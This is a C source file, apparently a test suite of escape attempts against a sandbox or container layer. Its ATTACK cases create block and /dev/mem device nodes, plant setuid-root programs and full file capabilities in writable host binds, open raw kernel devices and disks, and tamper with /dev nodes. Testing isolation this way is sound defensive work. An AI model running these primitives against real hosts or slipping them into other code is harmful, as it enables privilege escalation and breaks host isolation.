// Device nodes of layers and binds, those a guest makes, and what a writable bind receives for real.
#define CLASS "device"
#include "attack.h"
#include <sys/sysmacros.h>
#include <sys/xattr.h>

static dev_t loopDevice(void) {
    struct stat s;
    const char *loop = knows("LOOP");
    if (stat(in("/lower/device"), &s) == 0 && S_ISBLK(s.st_mode)) return s.st_rdev;
    return *loop && stat(loop, &s) == 0 ? s.st_rdev : makedev(7, 0);
}
ATTACK(node_of_lower, leak, NATIVE_ROOT, "a block device's node in the lower layer (CVE-2026-96812)") { leakPath(in("/lower/device")); }
ATTACK(node_of_bind, leak, NATIVE_ROOT, "the same in a :ro bind, and by O_PATH and /proc/self/fd") {
    leakPath(in("/ro/device"));
    char text[64];
    snprintf(text, sizeof text, "/proc/self/fd/%d", open(in("/ro/device"), O_PATH)), leakPath(text);
    snprintf(text, sizeof text, "/proc/self/fd/%d", open(in("/lower/device"), O_PATH)), leakPath(text);
}
ATTACK(node_linked, leak, NATIVE_ROOT, "the same under a new name, after a copy-up") {
    say("chmod", chmod(in("/lower/device"), 0666)), say("link", link(in("/lower/device"), in("/lower/linked"))), leakPath(in("/lower/linked")),
        say("rename", rename(in("/lower/device"), in("/tmp/device"))), leakPath(in("/tmp/device"));
}
ATTACK(node_made, leak, NATIVE_ROOT, "mknod of a block device in the upper, opened") {
    say("mknod", mknod(in("/tmp/device"), S_IFBLK | 0666, loopDevice())), leakPath(in("/tmp/device"));
}
ATTACK(node_made_kept, leak, TWO_RUNS | NATIVE_ROOT, "mknod in one run, opened in the next over the same upper") {
    if (knowsNumber("PHASE") == 1) say("mknod", mknod(in("/tmp/device"), S_IFBLK | 0666, loopDevice()));
    leakPath(in("/tmp/device"));
}
ATTACK(node_made_on_host, change, WRITABLE_BIND | NATIVE_ROOT, "mknod in a writable bind: a device for real on the host") {
    say("mknod", mknod(in("/rw/device"), S_IFBLK | 0666, loopDevice())), say("mknod", mknod(in("/rw/memory"), S_IFCHR | 0666, makedev(1, 1)));
    leakPath(in("/rw/device"));
}
ATTACK(node_moved_to_host, change, WRITABLE_BIND | NATIVE_ROOT, "a node renamed or linked into a writable bind, and a file changed into one") {
    say("mknod", mknod(in("/tmp/device"), S_IFBLK | 0666, loopDevice())), say("rename", rename(in("/tmp/device"), in("/rw/device"))),
        say("link", link(in("/tmp/device"), in("/rw/linked"))), say("link", link(in("/lower/device"), in("/rw/lower")));
    if (!inside) say("mknod", mknod(in("/rw/made"), S_IFBLK | 0666, loopDevice()));
}
ATTACK(set_id_on_host, change, WRITABLE_BIND | NATIVE_ROOT | ROOT_CALLER, "a set-user-id program of root's made for real in a writable bind") {
    int fd = open(in("/rw/program"), O_WRONLY | O_CREAT, 0755);
    say("chown", fchown(fd, 0, 0)), say("fchmod", fchmod(fd, 04755)), say("open", open(in("/rw/born"), O_WRONLY | O_CREAT, 04755)),
        say("mknod", mknod(in("/rw/made"), S_IFREG | 06755, 0)), say("chmod", chmod(in("/rw/victim"), 02755)), say("chown", chown(in("/rw/victim"), 0, 0));
    say("rename", rename(in("/bin/set-id"), in("/rw/set-id")));
}
ATTACK(capabilities_on_host, change, WRITABLE_BIND | NATIVE_ROOT | ROOT_CALLER, "file capabilities set for real in a writable bind") {
    unsigned data[5] = {0x02000001, 0xffffffff, 0, 0xffffffff, 0};
    say("setxattr", setxattr(in("/rw/victim"), "security.capability", data, sizeof data, 0)),
        say("fsetxattr", fsetxattr(open(in("/rw/victim"), O_RDWR), "security.capability", data, sizeof data, 0));
}
ATTACK(kernel_devices, leak, NATIVE_ROOT, "/dev/mem, kmsg, port, kvm, fuse, net/tun, loop-control, uinput, vhost, and the disk by name") {
    const char *names[] = {"/dev/mem",    "/dev/kmem",      "/dev/kmsg",        "/dev/port", "/dev/kvm",  "/dev/fuse", "/dev/net/tun", "/dev/loop-control",
                           "/dev/uinput", "/dev/vhost-net", "/dev/userfaultfd", "/dev/hpet", "/dev/rtc0", "/dev/vda",  "/dev/sda",     "/dev/console"};
    for (int i = 0; i < 16; i++)
        if (inside) say(names[i], open(names[i], O_RDWR | O_NONBLOCK));
    leakPath(knows("LOOP"));
}
ATTACK(own_devices_written, change, TWO_RUNS, "nodes of our own /dev renamed, removed, changed; natively a file of the arena's") {
    const char *names[] = {"/dev/null", "/dev/zero", "/dev/tty", "/dev/full", "/dev/random"};
    if (!inside) {
        deface(open(in("/ro/victim"), O_WRONLY));
        return;
    }
    for (int i = 0; i < 5; i++)
        say("chmod", chmod(names[i], 0777)), say("utime", utimensat(AT_FDCWD, names[i], (struct timespec[2]){{1, 0}, {1, 0}}, 0)),
            say("rename", rename(names[i], "/tmp/x")), say("unlink", unlink(names[i]));
}
